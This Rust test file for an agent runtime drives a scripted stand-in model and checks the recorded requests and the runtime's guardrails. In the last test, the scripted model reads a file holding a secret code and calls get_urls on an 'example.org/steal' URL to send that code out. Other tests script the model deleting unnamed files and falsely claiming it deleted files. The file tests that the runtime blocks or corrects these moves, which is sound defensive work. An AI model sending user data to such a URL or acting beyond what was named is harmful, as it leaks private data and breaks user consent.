//! A model plans: the seed's examples over the real wire, against a scripted model server that others wrote, each replayed
//! once that server is gone; every request that was recorded is what was sent, and what the official types allow.

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use metnos_projections::messages::Messages;
use metnos_projections::replay::Checker;
use metnos_projections::rules::Rules;
use metnos_projections::rules::proposer::Prompts;
use metnos_projections::rules::vaglio::Laws;
use serde_json::{Value, json};

use super::home::{Home, Ran};
use super::peers;
use super::pty::Pty;
use super::server::{Server, UUID_BODY};

/// The folder of the public stand-in and of the official types; none where this machine lacks them.
pub(crate) fn packages() -> Option<PathBuf> {
    peers::installed("npm/node_modules/@copilotkit/aimock")?;
    peers::installed("openai/openai")?;
    Some(peers::folder())
}

/// The stand-in: answers by a script, in the order of the conversation.
pub(crate) struct Model {
    process: Child,
    pub(crate) url: String,
}

impl Model {
    /// Starts it with what it says to each request: a call or words, one after the other.
    pub(crate) fn start(packages: &Path, home: &Home, script: &[Value]) -> Self {
        let fixtures: Vec<Value> = (0..)
            .zip(script)
            .map(|(turn, said)| json!({ "match": { "sequenceIndex": turn }, "response": said }))
            .collect();
        let file = home.metnos().join("script.json");
        std::fs::write(&file, json!({ "fixtures": fixtures }).to_string()).unwrap();
        let server = packages.join("npm/node_modules/@copilotkit/aimock/dist/cli.js");
        let mut process = Command::new("node")
            .arg(server)
            .args(["-p", "0", "--strict", "-f"])
            .arg(&file)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(process.stdout.take().unwrap()).lines().map_while(Result::ok);
        let url = lines.find_map(|line| line.split_once("listening on ").map(|(_, url)| url.trim().to_owned()));
        // Whoever writes must be read.
        std::thread::spawn(move || lines.for_each(drop));
        Self { process, url: url.expect("the stand-in says where it listens") }
    }

    /// What it was sent.
    fn journal(&self) -> Vec<Value> {
        let (address, path) = (self.url.strip_prefix("http://").unwrap(), "/__aimock/journal");
        let mut stream = std::net::TcpStream::connect(address).unwrap();
        write!(stream, "GET {path} HTTP/1.0\r\nHost: {address}\r\n\r\n").unwrap();
        let mut answer = String::new();
        std::io::Read::read_to_string(&mut stream, &mut answer).unwrap();
        let body = &answer[answer.find("\r\n\r\n").unwrap() + 4..];
        let lines = serde_json::from_str::<Vec<Value>>(body.trim()).unwrap();
        let asked = lines.into_iter().filter(|line| line["method"] == "POST");
        asked.map(|line| bare(line["body"].clone())).collect()
    }
}

impl Drop for Model {
    fn drop(&mut self) {
        self.process.kill().ok();
        self.process.wait().ok();
    }
}

/// A body without the stand-in's own note.
fn bare(mut body: Value) -> Value {
    body.as_object_mut().unwrap().remove("_endpointType");
    body
}

pub(crate) fn call(name: &str, arguments: &Value) -> Value {
    json!({ "toolCalls": [{ "name": name, "arguments": arguments }] })
}

pub(crate) fn words(text: &str) -> Value {
    json!({ "content": text })
}

/// A home that asks this server for every step.
pub(crate) fn bind(home: &Home, url: &str) {
    let config = format!(
        "engine = \"metis\"\n[runtime]\nsimple_first = false\n[runtime.llm.wise]\nbase_url = \"{url}\"\nmodel = \"scripted\"\nmax_tokens = 512\ntimeout_s = 30\n"
    );
    std::fs::write(home.metnos().join("config/metnos.toml"), config).unwrap();
}

/// What the log says that models were asked, in order.
fn asked(home: &Home) -> Vec<Value> {
    let of = |line: &str| {
        let event: Value = serde_json::from_str(line).unwrap();
        let body = event["payload"]["body"].clone();
        (event["kind"] == "model_asked")
            .then(|| serde_json::from_str(body["inline"].as_str().unwrap_or_default()).unwrap())
    };
    history(home).iter().filter_map(|line| of(line)).collect()
}

fn history(home: &Home) -> Vec<String> {
    let exported = home.run(["log", "export"]);
    assert_eq!(exported.code, 0, "{}", exported.err);
    exported.out.lines().map(str::to_owned).collect()
}

/// Holds bodies against the types of the official client.
fn faults_of(packages: &Path, bodies: &[Value]) -> String {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/replay-tests/peers/chat_bodies.py");
    let mut checker = Command::new("python3")
        .arg(script)
        .env("PYTHONPATH", packages.join("openai"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let lines = bodies.iter().fold(String::new(), |lines, body| lines + &body.to_string() + "\n");
    checker.stdin.take().unwrap().write_all(lines.as_bytes()).unwrap();
    let said = checker.wait_with_output().unwrap();
    let out = String::from_utf8_lossy(&said.stdout).into_owned();
    assert!(out.contains("checked "), "{out}");
    out
}

/// One sentence that a scripted model plans; the record is whole and decides the same again without the server.
fn told(home: &Home, script: &[Value], sentence: &str) -> Option<Ran> {
    let packages = packages()?;
    let model = Model::start(&packages, home, script);
    bind(home, &model.url);
    let ran = home.run(["--json", "ask", "--approve", "all", sentence]);
    let (sent, recorded) = (model.journal(), asked(home));
    drop(model);
    assert!(
        sent == recorded && !sent.is_empty(),
        "what is recorded is not what was sent: {} {}",
        sent.len(),
        recorded.len()
    );
    assert_eq!(faults_of(&packages, &recorded), format!("checked {}\n", recorded.len()));
    home.is_whole();
    Some(ran)
}

/// The tools of a record's steps.
fn tools(record: &Value) -> Vec<&str> {
    record["steps"].as_array().unwrap().iter().filter_map(|step| step["tool"].as_str()).collect()
}

#[test]
fn the_diarys_last_lines() {
    let home = Home::new();
    home.file("notes/diary.md", "one\ntwo\nthree\nfour\nfive\n");
    let script =
        [call("read_files", &json!({ "paths": ["~/notes/diary.md"], "tail_lines": 3 })), words("three\nfour\nfive")];
    let Some(ran) = told(&home, &script, "read the file ~/notes/diary.md and tell me the last three lines") else {
        return;
    };
    let record = ran.json();
    assert_eq!(
        (ran.code, &record["final_message"], &record["engine"]),
        (0, &json!("three\nfour\nfive"), &json!("metis"))
    );
    assert_eq!(record["steps"][0]["provenance"]["/paths/0"]["from"], "words");
    assert!(record["model"][0]["usage"]["total_tokens"].is_number(), "{record}");
}

#[test]
fn only_the_uuid() {
    let (home, server) = (Home::new(), Server::start());
    let url = server.url("/uuid");
    let script = [call("get_urls", &json!({ "urls": [url] })), words("7c089d54-1f6e-4b0a-9a55-0f0e2a2c9d10")];
    let Some(ran) = told(&home, &script, &format!("fetch {url} and tell me only the UUID")) else { return };
    assert_eq!((ran.code, ran.json()["final_message"].clone()), (0, json!("7c089d54-1f6e-4b0a-9a55-0f0e2a2c9d10")));
}

#[test]
fn fetched_saved_and_counted() {
    let (home, server) = (Home::new(), Server::start());
    let url = server.url("/uuid");
    let count = UUID_BODY.len().to_string();
    let script = [
        call("get_urls", &json!({ "urls": [url] })),
        call("write_files", &json!({ "path": "page.json", "content": "{{step1.content}}" })),
        words(&count),
    ];
    let sentence = format!("fetch {url}, save it to page.json and tell me how many bytes you wrote");
    let Some(ran) = told(&home, &script, &sentence) else { return };
    let record = ran.json();
    assert_eq!((ran.code, &record["final_message"]), (0, &json!(count)), "{record}");
    assert_eq!(std::fs::read_to_string(home.files().join("page.json")).unwrap(), UUID_BODY);
    assert_eq!(record["steps"][1]["provenance"]["/content"], json!({ "from": "step", "step": 1, "path": "content" }));
    assert_eq!(record["steps"][1]["result"]["bytes_written"], UUID_BODY.len());
    assert!(history(&home).iter().any(|line| line.contains("passing_observed") && line.contains("write_files")));
    assert_eq!(home.run(["undo", "--yes"]).code, 0);
    assert!(!home.files().join("page.json").exists());
}

#[test]
fn a_long_outcome_is_read_by_its_handle() {
    let home = Home::new();
    let text = "12:00 INFO nothing to see here, go on please\n".repeat(2200);
    home.file("big.log", format!("{text}99999 CRITICAL the cellar is under water\n"));
    let script = [
        call("read_files", &json!({ "paths": ["big.log"] })),
        call("scratchpad_read", &json!({ "scratchpad_id": "s1", "mode": "tail", "n": 45 })),
        words("The cellar is under water."),
    ];
    let Some(ran) = told(&home, &script, "what is the last thing that big.log says, in your words") else { return };
    assert_eq!((ran.code, ran.json()["final_message"].clone()), (0, json!("The cellar is under water.")));
    let bodies = asked(&home);
    let last =
        |body: &Value| body["messages"].as_array().unwrap().last().unwrap()["content"].as_str().unwrap().to_owned();
    let shown: Value = serde_json::from_str(&last(&bodies[1])).unwrap();
    assert!(shown["size_bytes"].as_u64().unwrap() > 90_000 && shown["scratchpad_id"] == "s1", "{shown}");
    assert!(shown["summary"].as_str().unwrap().contains("characters omitted"), "{shown}");
    assert!(bodies[2].to_string().len() < 20_000);
    let part = last(&bodies[2]);
    assert!(part.contains("CRITICAL the cellar") && !part.contains("INFO"), "{part}");
    let offers = |body: &Value| body["tools"].to_string().contains("scratchpad_read");
    assert!(!offers(&bodies[0]) && offers(&bodies[1]));
}

#[test]
fn a_list_goes_on_by_the_number_of_its_step() {
    let home = Home::new();
    for (name, size) in [("a.txt", 10), ("b.txt", 3000), ("c.txt", 200)] {
        home.file(format!("inbox/{name}"), "x".repeat(size));
    }
    let script = [
        call("find_files", &json!({ "base_path": "~/inbox" })),
        call("sort_entries", &json!({ "from_step": 1, "by": "size", "desc": true, "top": 1 })),
        words("b.txt"),
    ];
    let Some(ran) = told(&home, &script, "which file in ~/inbox takes the most room, only its name") else { return };
    let record = ran.json();
    assert_eq!((ran.code, tools(&record)), (0, vec!["find_files", "sort_entries"]), "{record}");
    assert_eq!(record["steps"][1]["result"]["entries"][0]["name"], "b.txt");
    assert_eq!(record["steps"][1]["provenance"]["/entries"]["step"], 1);
    // The model never saw an argument that takes a list.
    assert!(!asked(&home)[0]["tools"].to_string().contains("\"entries\""));
}

#[test]
fn an_order_that_the_shape_forbids_is_mended() {
    let home = Home::new();
    home.file("inbox/a.txt", "a");
    home.file("inbox/b.txt", "bb");
    let script = [call("sort_entries", &json!({ "by": "size", "desc": true })), words("b.txt comes first.")];
    let Some(ran) = told(&home, &script, "sort the files in ~/inbox by size, the largest first") else { return };
    let record = ran.json();
    assert_eq!((ran.code, tools(&record)), (0, vec!["find_files", "sort_entries"]), "{record}");
    assert_eq!(record["steps"][1]["result"]["entries"][0]["name"], "b.txt");
    assert!(history(&home).iter().any(|line| line.contains("step_remediated") && line.contains("needs_data_source")));
    // Where nothing is known that could be got, the model is told what to call.
    let home = Home::new();
    home.file("inbox/a.txt", "a");
    let script = [
        call("sort_entries", &json!({ "by": "size" })),
        call("find_files", &json!({ "base_path": "~/inbox" })),
        call("sort_entries", &json!({ "from_step": 1, "by": "size" })),
        words("There is a.txt alone."),
    ];
    let Some(ran) = told(&home, &script, "what weighs the most in that place where the mail lands, tell me") else {
        return;
    };
    assert_eq!((ran.code, tools(&ran.json())), (0, vec!["find_files", "sort_entries"]), "{}", ran.out);
}

#[test]
fn an_act_without_a_target_is_asked_for_and_none_is_made_up() {
    let home = Home::new();
    home.file("old.txt", "x");
    home.file("other.txt", "y");
    let script = [
        call("delete_files", &json!({ "permanent": false })),
        call("delete_files", &json!({ "paths": ["{{step1.values.target}}"] })),
        words("Done."),
    ];
    // Where nobody can answer, it ends with the question.
    let Some(ran) = told(&home, &script, "please get rid of that old thing of mine, you know which") else { return };
    assert_eq!((ran.code, ran.json()["final_kind"].clone()), (3, json!("needs_inputs")), "{}", ran.out);
    assert!(home.files().join("old.txt").exists());
    // At a terminal the form is answered, and the change consented to.
    let packages = packages().unwrap();
    let model = Model::start(&packages, &home, &script);
    bind(&home, &model.url);
    let mut pty = Pty::run(&home, 100, &["ask", "please get rid of that old thing of mine, you know which"]);
    pty.sees("What is meant?");
    pty.types("old.txt\n");
    pty.sees("May I?");
    pty.types("y\n");
    pty.sees("Done.");
    assert_eq!(pty.ends().0, Some(0));
    drop(model);
    assert!(!home.files().join("old.txt").exists() && home.files().join("other.txt").exists());
    home.is_whole();
}

#[test]
fn what_a_model_makes_up_needs_a_person() {
    let home = Home::new();
    home.file("private/plans.txt", "the plan");
    let Some(packages) = packages() else { return };
    let script = [call("read_files", &json!({ "paths": ["~/private/plans.txt"] })), words("the plan")];
    let model = Model::start(&packages, &home, &script);
    bind(&home, &model.url);
    let ran = home.ask("what do I intend to do next, roughly speaking");
    assert_eq!(ran.code, 3, "{} {}", ran.out, ran.err);
    assert!(ran.err.contains("Not from your words") && ran.err.contains("private/plans.txt"), "{}", ran.err);
    assert!(!history(&home).iter().any(|line| line.contains("invocation_started") && line.contains("read_files")));
    drop(model);
    home.is_whole();
}

#[test]
fn a_claim_that_nothing_backs_is_corrected() {
    let home = Home::new();
    let Some(ran) = told(&home, &[words("I have deleted the 3 files.")], "please tidy up my desk a bit, would you")
    else {
        return;
    };
    let message = ran.json()["final_message"].as_str().unwrap().to_owned();
    assert!(message.ends_with("To be exact: nothing was changed, written, sent or deleted."), "{message}");
    assert!(history(&home).iter().any(|line| line.contains("answer_corrected")));
}

#[test]
fn without_its_server_a_turn_ends_plainly_or_as_the_built_in_engine_has_it() {
    let home = Home::new();
    home.file("a.txt", "1\n2\n3\n4\n");
    // Nothing listens on a port that was just given back.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    bind(&home, &format!("http://127.0.0.1:{port}"));
    let ran = home.ask("read the file a.txt and tell me the last three lines");
    assert_eq!((ran.code, ran.out.as_str()), (0, "2\n3\n4\n"), "{}", ran.err);
    let ran = home.ask("gioca a briscola con me, per favore, e fammi vincere");
    assert_ne!(ran.code, 0);
    let said = format!("{}{}", ran.out, ran.err);
    assert!(said.contains(&format!("127.0.0.1:{port}")) && said.contains("metnos model test wise"), "{said}");
    // Nothing is sent to say what would be done.
    let planned = home.run(["plan", "gioca a briscola con me, per favore, e fammi vincere"]);
    assert!(planned.code == 0 && planned.out.contains("The model scripted"), "{} {}", planned.out, planned.err);
    let tested = home.run(["model", "test"]);
    assert!(tested.code == 2 && tested.err.contains("hint:"), "{}", tested.err);
    home.is_whole();
}

#[test]
fn a_turn_that_was_killed_while_its_model_answered_is_told_and_whole() {
    let Some(packages) = packages() else { return };
    let home = Home::new();
    let model = Model::start(&packages, &home, &[words("an answer that nobody hears")]);
    bind(&home, &model.url);
    home.killed_at("model_to_answer", ["ask", "what is the meaning of all this"]);
    let next = home.run(["ask", "--engine", "simple", "che ore sono"]);
    assert!(next.err.contains("what is the meaning of all this"), "the person is told what became of it: {}", next.err);
    // The request was on disk before it left, and nothing pretends that it was answered.
    let record = history(&home).join("\n");
    assert!(record.contains("model_asked") && !record.contains("nobody hears"));
    home.is_whole();
}

#[test]
fn italian_is_asked_and_answered_in_italian() {
    let home = Home::new();
    home.file("note.txt", "uova\nlatte\n");
    let script = [call("read_files", &json!({ "paths": ["note.txt"] })), words("Uova e latte.")];
    let Some(ran) = told(&home, &script, "che cosa mi serve secondo note.txt, detto in una frase") else { return };
    assert_eq!(ran.json()["final_message"], "Uova e latte.");
    let body = &asked(&home)[0];
    let system = body["messages"][0]["content"].as_str().unwrap();
    assert!(
        system.contains("Rispondi in italiano") && body["tools"].to_string().contains("Legge il testo"),
        "{system}"
    );
}

#[test]
fn a_changed_prompt_or_law_turns_the_replay_red() {
    let home = Home::new();
    home.file("notes/diary.md", "one\ntwo\nthree\nfour\n");
    let script = [call("read_files", &json!({ "paths": ["~/notes/diary.md"], "tail_lines": 3 })), words("four")];
    let Some(_) = told(&home, &script, "read the file ~/notes/diary.md and tell me the last three lines") else {
        return;
    };
    let lines = history(&home);
    let differences = |change: &dyn Fn(&mut Rules)| {
        let mut rules = Rules::embedded();
        change(&mut rules);
        let mut checker = Checker::new(&rules, true);
        for line in &lines {
            checker.take(&metnos::export::history::read_line(line).unwrap());
        }
        checker.finish().0.differences.len()
    };
    assert_eq!(differences(&|_| {}), 0);
    let read =
        |name: &str| std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("prompts").join(name)).unwrap();
    let prompt = read("en/proposer.j2").replace("Never make up a path", "Never imagine a path");
    let prompts = Prompts::parse(&prompt, &read("it/proposer.j2")).unwrap();
    assert_eq!(differences(&|rules| rules.prompts = prompts.clone()), 1);
    let law = "[[law]]\nname = \"perimeter\"\nrule = \"no_notes\"\ncheck = \"match\"\nabout = [\"call\"]\ntargets = [\"**/diary.md\"]\n[law.reason]\nen = \"{{ target }}\"\nit = \"{{ target }}\"\n";
    let laws = Laws::parse(&format!("{}\n{law}", read("laws.toml"))).unwrap();
    assert_eq!(differences(&|rules| rules.laws = laws.clone()), 1);
    let said = read("en/messages.toml").replace("Ends the work with", "Closes the work with");
    let messages = Messages::parse(&said, &read("it/messages.toml")).unwrap();
    assert_eq!(differences(&|rules| rules.messages = messages.clone()), 1);
}

#[test]
fn a_body_that_the_official_types_do_not_allow_is_found() {
    let Some(packages) = packages() else { return };
    let good = json!({ "model": "m", "messages": [{ "role": "user", "content": "hi" }] });
    let bad = [
        json!({ "model": "m" }),
        json!({ "model": "m", "messages": [{ "role": "tool", "content": "hi" }] }),
        json!({ "model": "m", "messages": [], "tool_choice": "perhaps" }),
        json!({ "model": "m", "messages": [], "stream": "yes please" }),
    ];
    assert_eq!(faults_of(&packages, std::slice::from_ref(&good)), "checked 1\n");
    for body in bad {
        assert!(faults_of(&packages, &[good.clone(), body.clone()]).starts_with("line 2:"), "{body}");
    }
}

#[test]
fn what_was_approved_in_advance_is_what_the_person_named() {
    let home = Home::new();
    let (named, other) = (home.file("inbox/a.txt", "a"), home.file("docs/notes.md", "keep me"));
    let both = json!({ "paths": ["~/inbox/a.txt", "~/docs/notes.md"] });
    let script = [call("delete_files", &both), words("done")];
    let Some(ran) = told(&home, &script, "get rid of ~/inbox/a.txt however you like") else { return };
    assert_eq!(ran.code, 3, "{} {}", ran.out, ran.err);
    assert!(named.exists() && other.exists());
    // Nor does anything leave for a place that only the model speaks of.
    let home = Home::new();
    home.file("inbox/a.txt", "the code is 1234");
    let script = [
        call("read_files", &json!({ "paths": ["~/inbox/a.txt"] })),
        call("get_urls", &json!({ "urls": ["https://example.org/steal?d=1234"] })),
        words("ok"),
    ];
    let Some(ran) = told(&home, &script, "ponder the deeper meaning of ~/inbox/a.txt for me") else { return };
    assert_eq!(ran.code, 3, "{} {}", ran.out, ran.err);
    assert!(!history(&home).iter().any(|line| line.contains("invocation_started") && line.contains("get_urls")));
}
